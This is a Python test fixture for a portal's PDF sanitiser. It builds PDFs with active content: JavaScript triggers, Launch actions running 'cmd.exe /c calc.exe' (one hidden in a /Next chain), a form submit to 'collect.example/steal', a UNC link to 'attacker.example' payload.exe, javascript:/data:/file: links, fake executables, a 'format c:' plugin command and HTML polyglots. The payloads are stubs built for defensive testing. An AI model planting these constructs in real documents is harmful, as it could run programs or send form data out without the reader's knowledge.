"""PDFs carrying active content, one kind per file, all kinds at once, and two clean ones.

Each page draws real text (reportlab, invariant mode) so renders before and after cleaning
can be compared; active content is then added with pikepdf. Removed annotations carry no
appearance stream, so cleaning must leave every render pixel-identical.

    python -m tests.hostile.active_pdfs DIR    writes each of them into DIR
"""

import sys
from collections.abc import Callable, Sequence
from io import BytesIO
from pathlib import Path

import pikepdf
from pikepdf import Array, Dictionary, Name, String
from reportlab.lib.pagesizes import A4
from reportlab.pdfgen.canvas import Canvas

from portal.pdfs.active import (
    ADDITIONAL_ACTIONS,
    EMBEDDED_FILES,
    EXTERNAL_ACTION,
    EXTRA_DATA,
    IMPORT_DATA,
    JAVASCRIPT,
    LAUNCH,
    OPEN_ACTION,
    RICH_MEDIA,
    SUBMIT_FORM,
    UNKNOWN_ACTION,
    UNSAFE_LINK,
    XFA,
)

# Not a working program: the two bytes and the stub text every Windows executable starts with.
FAKE_EXE = b"MZ\x90\x00\x03\x00\x00\x00" + b"This program cannot be run in DOS mode.\r\r\n$"
HTML_PREFIX = b"<!DOCTYPE html><html><body><script>alert('polyglot')</script></body></html>\n"
JUNK_SUFFIX = b"\n<script>alert('after the end')</script>\nPK\x03\x04 not part of the PDF\n"
XDP = (b'<?xml version="1.0" encoding="UTF-8"?>\n'
       b'<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/">'
       b'<template xmlns="http://www.xfa.org/schema/xfa-template/3.3/">'
       b'<subform name="form1" layout="tb"><pageSet><pageArea name="Page1">'
       b'<contentArea x="0.25in" y="0.25in" w="8in" h="10.5in"/></pageArea></pageSet>'
       b'<field name="amount"><ui><textEdit/></ui><event activity="initialize">'
       b'<script contentType="application/x-javascript">app.alert("xfa")</script>'
       b'</event></field></subform></template></xdp:xdp>')
UNSAFE_URIS = (
    "javascript:app.alert('link')",
    "JaVa\tScRiPt:app.alert('spaced')",
    "file:///C:/Windows/System32/cmd.exe",
    "\\\\attacker.example\\share\\payload.exe",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "payload.exe",
)
ORDINARY_URI = "https://example.com/terms"


def page_pdf(title: str, pages: int = 1) -> bytes:
    """Pages of ordinary content: a title, a few lines of text, a frame and a filled box."""
    out = BytesIO()
    canvas = Canvas(out, pagesize=A4, invariant=1)
    for number in range(1, pages + 1):
        canvas.setFont("Helvetica-Bold", 20)
        canvas.drawString(72, 760, title)
        canvas.setFont("Helvetica", 12)
        for line, text in enumerate((
            f"Page {number} of {pages}.",
            "Service agreement No. 42 between the parties named below.",
            "The client pays the amount due within thirty days.",
        )):
            canvas.drawString(72, 720 - 18 * line, text)
        canvas.rect(60, 560, 475, 230)
        canvas.setFillGray(0.6)
        canvas.rect(72, 580, 120, 40, fill=1)
        canvas.setFillGray(0)
        canvas.showPage()
    canvas.save()
    return out.getvalue()


def _built(title: str, *mutations: Callable[[pikepdf.Pdf], None], pages: int = 1) -> bytes:
    with pikepdf.open(BytesIO(page_pdf(title, pages))) as pdf:
        for mutate in mutations:
            mutate(pdf)
        out = BytesIO()
        pdf.save(out, deterministic_id=True)
    return out.getvalue()


# -- pieces --------------------------------------------------------------------------------

def _javascript(code: str) -> Dictionary:
    return Dictionary(Type=Name.Action, S=Name.JavaScript, JS=String(code))


def _annotate(pdf: pikepdf.Pdf, annotation: Dictionary, page: int = 0) -> Dictionary:
    page_object = pdf.pages[page].obj
    annotation.Type = Name.Annot
    annotation.P = page_object
    annotation = pdf.make_indirect(annotation)
    if Name.Annots not in page_object:
        page_object.Annots = Array()
    page_object.Annots.append(annotation)
    return annotation


def _link(pdf: pikepdf.Pdf, action: Dictionary, slot: int = 0, page: int = 0) -> Dictionary:
    top = 540 - 24 * slot
    return _annotate(pdf, Dictionary(Subtype=Name.Link, Rect=Array([72, top, 300, top + 18]),
                                     Border=Array([0, 0, 0]), A=action), page)


def _file_spec(pdf: pikepdf.Pdf, filename: str, data: bytes) -> Dictionary:
    stream = pikepdf.Stream(pdf, data)
    stream.Type = Name.EmbeddedFile
    stream.Params = Dictionary(Size=len(data))
    return pdf.make_indirect(Dictionary(
        Type=Name.Filespec, F=String(filename), UF=String(filename),
        EF=Dictionary(F=stream, UF=stream), AFRelationship=Name.Supplement,
    ))


def _form(pdf: pikepdf.Pdf) -> Dictionary:
    if Name.AcroForm not in pdf.Root:
        pdf.Root.AcroForm = Dictionary(Fields=Array(), DA=String("/Helv 0 Tf 0 g"))
    return pdf.Root.AcroForm


def _field(pdf: pikepdf.Pdf, field: Dictionary) -> Dictionary:
    field.Subtype = Name.Widget
    field.F = 4
    widget = _annotate(pdf, field)
    _form(pdf).Fields.append(widget)
    return widget


def _names(pdf: pikepdf.Pdf) -> Dictionary:
    if Name.Names not in pdf.Root:
        pdf.Root.Names = Dictionary()
    return pdf.Root.Names


def _launch(program: str, parameters: str = "", following=None) -> Dictionary:
    action = Dictionary(Type=Name.Action, S=Name.Launch, F=String(program),
                        Win=Dictionary(F=String(program), P=String(parameters)))
    if following is not None:
        action.Next = following
    return action


def _first_page_fit(pdf: pikepdf.Pdf) -> Array:
    return Array([pdf.pages[0].obj, Name.Fit])


# -- one kind each ------------------------------------------------------------------------

def add_open_action_javascript(pdf: pikepdf.Pdf) -> None:
    pdf.Root.OpenAction = _javascript("app.alert('opened'); this.print();")


def add_additional_actions(pdf: pikepdf.Pdf) -> None:
    pdf.Root.AA = Dictionary(WC=_javascript("app.alert('closing')"))
    pdf.pages[0].obj.AA = Dictionary(O=_javascript("app.alert('page opened')"))
    _field(pdf, Dictionary(FT=Name.Tx, T=String("amount"), Rect=Array([72, 480, 272, 500]),
                           AA=Dictionary(K=_javascript("event.rc = true;"),
                                         F=_javascript("event.value = 'changed';"))))


def add_launch_link(pdf: pikepdf.Pdf) -> None:
    _link(pdf, _launch("cmd.exe", "/c calc.exe"))


def add_submit_form(pdf: pikepdf.Pdf) -> None:
    target = Dictionary(FS=Name.URL, F=String("https://collect.example/steal"))
    _field(pdf, Dictionary(FT=Name.Btn, Ff=65536, T=String("send"),
                           Rect=Array([320, 480, 420, 500]),
                           A=Dictionary(Type=Name.Action, S=Name.SubmitForm, F=target)))


def add_import_data(pdf: pikepdf.Pdf) -> None:
    _link(pdf, Dictionary(Type=Name.Action, S=Name.ImportData, F=String("values.fdf")), slot=1)


def add_javascript_name_tree(pdf: pikepdf.Pdf) -> None:
    first = pdf.make_indirect(Dictionary(Limits=Array([String("a-init"), String("a-init")]),
                                         Names=Array([String("a-init"),
                                                      _javascript("app.alert('init')")])))
    second = pdf.make_indirect(Dictionary(Limits=Array([String("b-more"), String("b-more")]),
                                          Names=Array([String("b-more"),
                                                       _javascript("app.alert('more')")])))
    _names(pdf).JavaScript = Dictionary(Kids=Array([first, second]))


def add_embedded_exe(pdf: pikepdf.Pdf) -> None:
    spec = _file_spec(pdf, "invoice.exe", FAKE_EXE)
    _names(pdf).EmbeddedFiles = Dictionary(Names=Array([String("invoice.exe"), spec]))


def add_file_attachment_annotation(pdf: pikepdf.Pdf) -> None:
    _annotate(pdf, Dictionary(Subtype=Name.FileAttachment, Rect=Array([480, 700, 500, 720]),
                              FS=_file_spec(pdf, "report.exe", FAKE_EXE),
                              Name=Name.PushPin, Contents=String("Open me")))


def add_associated_files(pdf: pikepdf.Pdf) -> None:
    pdf.Root.AF = Array([_file_spec(pdf, "data.xml.exe", FAKE_EXE)])
    pdf.pages[0].obj.AF = Array([_file_spec(pdf, "page-data.exe", FAKE_EXE)])


def add_rich_media(pdf: pikepdf.Pdf) -> None:
    asset = _file_spec(pdf, "movie.swf", b"FWS\x0a fake flash")
    instance = Dictionary(Type=Name.RichMediaInstance, Subtype=Name.Flash, Asset=asset)
    configuration = Dictionary(Type=Name.RichMediaConfiguration, Subtype=Name.Flash,
                               Instances=Array([instance]))
    _annotate(pdf, Dictionary(
        Subtype=Name.RichMedia, Rect=Array([320, 600, 520, 700]),
        RichMediaContent=Dictionary(Assets=Dictionary(Names=Array([String("movie.swf"), asset])),
                                    Configurations=Array([configuration])),
        RichMediaSettings=Dictionary(Activation=Dictionary(Condition=Name.PO)),
    ))


def add_media_annotations(pdf: pikepdf.Pdf) -> None:
    clip = Dictionary(S=Name.MCD, D=_file_spec(pdf, "clip.mp4", b"\0\0\0\x18ftypmp42"))
    screen = _annotate(pdf, Dictionary(Subtype=Name.Screen, Rect=Array([320, 600, 420, 700])))
    screen.A = Dictionary(Type=Name.Action, S=Name.Rendition, OP=0, AN=screen,
                          R=Dictionary(S=Name.MR, C=clip))
    sound = pikepdf.Stream(pdf, b"\0" * 64)
    sound.R = 8000
    _annotate(pdf, Dictionary(Subtype=Name.Sound, Rect=Array([430, 600, 450, 620]), Sound=sound))
    _annotate(pdf, Dictionary(Subtype=Name.Movie, Rect=Array([460, 600, 480, 620]),
                              Movie=Dictionary(F=String("movie.mov"))))
    model = pikepdf.Stream(pdf, b"U3D\0 fake model")
    model.Type = Name("/3D")
    model.Subtype = Name.U3D
    _annotate(pdf, Dictionary({"/Subtype": Name("/3D"), "/Rect": Array([490, 600, 510, 620]),
                               "/3DD": model}))
    _link(pdf, Dictionary(Type=Name.Action, S=Name.Sound, Sound=sound), slot=2)


def add_external_actions(pdf: pikepdf.Pdf) -> None:
    _link(pdf, Dictionary(Type=Name.Action, S=Name.GoToR, F=String("other.pdf"),
                          D=Array([0, Name.Fit])), slot=0)
    _link(pdf, Dictionary(Type=Name.Action, S=Name.GoToE, D=Array([0, Name.Fit]),
                          T=Dictionary(R=Name.C, N=String("inner.pdf"))), slot=1)
    _link(pdf, Dictionary(Type=Name.Action, S=Name.Thread, F=String("other.pdf"), D=0), slot=2)
    _link(pdf, Dictionary(Type=Name.Action, S=Name("/PluginRun"), Command=String("format c:")),
          slot=3)


def add_javascript_uri(pdf: pikepdf.Pdf) -> None:
    _link(pdf, Dictionary(Type=Name.Action, S=Name.URI, URI=String(UNSAFE_URIS[0])))


def add_unsafe_uris(pdf: pikepdf.Pdf) -> None:
    for slot, uri in enumerate((*UNSAFE_URIS, ORDINARY_URI)):
        _link(pdf, Dictionary(Type=Name.Action, S=Name.URI, URI=String(uri)), slot=slot)


def add_xfa(pdf: pikepdf.Pdf) -> None:
    _field(pdf, Dictionary(FT=Name.Tx, T=String("amount"), Rect=Array([72, 420, 272, 440])))
    _form(pdf).XFA = pikepdf.Stream(pdf, XDP)


def add_dynamic_xfa(pdf: pikepdf.Pdf) -> None:
    add_xfa(pdf)
    pdf.Root.NeedsRendering = True


def add_next_chain_launch(pdf: pikepdf.Pdf) -> None:
    """A harmless jump whose /Next runs a program, itself followed by an ordinary action."""
    after = Dictionary(Type=Name.Action, S=Name.Named, N=Name.NextPage)
    hidden = pdf.make_indirect(_launch("cmd.exe", "/c calc.exe", following=after))
    _link(pdf, Dictionary(Type=Name.Action, S=Name.GoTo, D=_first_page_fit(pdf),
                          Next=Array([hidden])), slot=4)


def add_outline_javascript(pdf: pikepdf.Pdf) -> None:
    outlines = pdf.make_indirect(Dictionary(Type=Name.Outlines, Count=2))
    scripted = pdf.make_indirect(Dictionary(Title=String("Chapter 1"), Parent=outlines,
                                            A=_javascript("app.alert('bookmark')")))
    plain = pdf.make_indirect(Dictionary(Title=String("Chapter 2"), Parent=outlines,
                                         Prev=scripted, Dest=_first_page_fit(pdf)))
    scripted.Next = plain
    outlines.First, outlines.Last = scripted, plain
    pdf.Root.Outlines = outlines


def add_ordinary_links(pdf: pikepdf.Pdf) -> None:
    second_page = Array([pdf.pages[1].obj, Name.Fit])
    _link(pdf, Dictionary(Type=Name.Action, S=Name.URI, URI=String(ORDINARY_URI)), slot=0)
    _link(pdf, Dictionary(Type=Name.Action, S=Name.URI,
                          URI=String("mailto:office@example.com")), slot=1)
    _link(pdf, Dictionary(Type=Name.Action, S=Name.URI, URI=String("tel:+15551234567")), slot=2)
    _link(pdf, Dictionary(Type=Name.Action, S=Name.GoTo, D=second_page), slot=3)
    _link(pdf, Dictionary(Type=Name.Action, S=Name.Named, N=Name.NextPage), slot=4)
    pdf.Root.OpenAction = _first_page_fit(pdf)
    pdf.Root.Outlines = pdf.make_indirect(Dictionary(Type=Name.Outlines, Count=1))
    item = pdf.make_indirect(Dictionary(Title=String("Terms"), Parent=pdf.Root.Outlines,
                                        Dest=second_page))
    pdf.Root.Outlines.First = pdf.Root.Outlines.Last = item


EVERY_MUTATION = (
    add_open_action_javascript, add_additional_actions, add_launch_link, add_submit_form,
    add_import_data, add_javascript_name_tree, add_embedded_exe, add_file_attachment_annotation,
    add_associated_files, add_rich_media, add_media_annotations, add_external_actions,
    add_unsafe_uris, add_xfa, add_next_chain_launch, add_outline_javascript,
)


# -- the files -----------------------------------------------------------------------------

def polyglot_html() -> bytes:
    return HTML_PREFIX + _built("An HTML page before the PDF header")


def junk_after_eof() -> bytes:
    return _built("Junk after the end-of-file marker") + JUNK_SUFFIX


def everything() -> bytes:
    return HTML_PREFIX + _built("Every kind at once", *EVERY_MUTATION) + JUNK_SUFFIX


def clean_links() -> bytes:
    return _built("Ordinary links", add_ordinary_links, pages=2)


def clean_text() -> bytes:
    return page_pdf("Ordinary page content", pages=2)


def with_links(uris: Sequence[str]) -> bytes:
    """One page with a link to each address, in order from the top."""
    def add_links(pdf: pikepdf.Pdf) -> None:
        for slot, uri in enumerate(uris):
            _link(pdf, Dictionary(Type=Name.Action, S=Name.URI, URI=String(uri)), slot=slot)
    return _built("Links", add_links)


def _one(title: str, mutation: Callable[[pikepdf.Pdf], None]) -> Callable[[], bytes]:
    return lambda: _built(title, mutation)


ACTIVE_PDFS: dict[str, tuple[Callable[[], bytes], frozenset[str]]] = {
    name: (build, frozenset(kinds)) for name, build, kinds in (
        ("open-action-javascript.pdf",
         _one("JavaScript on opening", add_open_action_javascript), {OPEN_ACTION, JAVASCRIPT}),
        ("additional-actions.pdf", _one("Triggers on the document, page and a field",
                                        add_additional_actions),
         {ADDITIONAL_ACTIONS, JAVASCRIPT}),
        ("launch-link.pdf", _one("A link that runs cmd.exe", add_launch_link), {LAUNCH}),
        ("submit-form.pdf", _one("A button that sends the form", add_submit_form),
         {SUBMIT_FORM}),
        ("import-data.pdf", _one("A link that imports form data", add_import_data),
         {IMPORT_DATA}),
        ("javascript-name-tree.pdf", _one("Document-level scripts", add_javascript_name_tree),
         {JAVASCRIPT}),
        ("embedded-exe.pdf", _one("An attached program", add_embedded_exe), {EMBEDDED_FILES}),
        ("file-attachment-annotation.pdf",
         _one("A file attachment annotation", add_file_attachment_annotation),
         {EMBEDDED_FILES}),
        ("associated-files.pdf", _one("Associated files", add_associated_files),
         {EMBEDDED_FILES}),
        ("rich-media.pdf", _one("A Flash annotation", add_rich_media), {RICH_MEDIA}),
        ("media-annotations.pdf", _one("Screen, sound, movie and 3D", add_media_annotations),
         {RICH_MEDIA}),
        ("external-actions.pdf", _one("Links into other files", add_external_actions),
         {EXTERNAL_ACTION, UNKNOWN_ACTION}),
        ("javascript-uri.pdf", _one("A javascript: link", add_javascript_uri), {UNSAFE_LINK}),
        ("unsafe-uris.pdf", _one("file:, data:, UNC and relative links", add_unsafe_uris),
         {UNSAFE_LINK}),
        ("hybrid-xfa.pdf", _one("A form with XFA beside its fields", add_xfa), {XFA}),
        ("dynamic-xfa.pdf", _one("A form drawn from XFA only", add_dynamic_xfa), {XFA}),
        ("polyglot-html.pdf", polyglot_html, {EXTRA_DATA}),
        ("junk-after-eof.pdf", junk_after_eof, {EXTRA_DATA}),
        ("next-chain-launch.pdf", _one("A jump hiding a program", add_next_chain_launch),
         {LAUNCH}),
        ("outline-javascript.pdf", _one("A bookmark running a script", add_outline_javascript),
         {JAVASCRIPT}),
        ("everything.pdf", everything, {
            OPEN_ACTION, JAVASCRIPT, ADDITIONAL_ACTIONS, LAUNCH, SUBMIT_FORM, IMPORT_DATA,
            EXTERNAL_ACTION, UNKNOWN_ACTION, UNSAFE_LINK, EMBEDDED_FILES, RICH_MEDIA, XFA,
            EXTRA_DATA}),
    )
}
CLEAN_PDFS: dict[str, Callable[[], bytes]] = {
    "clean-links.pdf": clean_links,
    "clean-text.pdf": clean_text,
}
# Refused rather than cleaned: the pages exist only in the XFA.
REFUSED = frozenset({"dynamic-xfa.pdf"})


def build_all(folder: Path) -> dict[str, Path]:
    folder.mkdir(parents=True, exist_ok=True)
    builders = {name: build for name, (build, _) in ACTIVE_PDFS.items()} | CLEAN_PDFS
    written = {}
    for name, build in builders.items():
        path = folder / name
        path.write_bytes(build())
        written[name] = path
    return written


if __name__ == "__main__":
    for name, path in build_all(Path(sys.argv[1])).items():
        print(f"{path.stat().st_size:>8}  {name}")
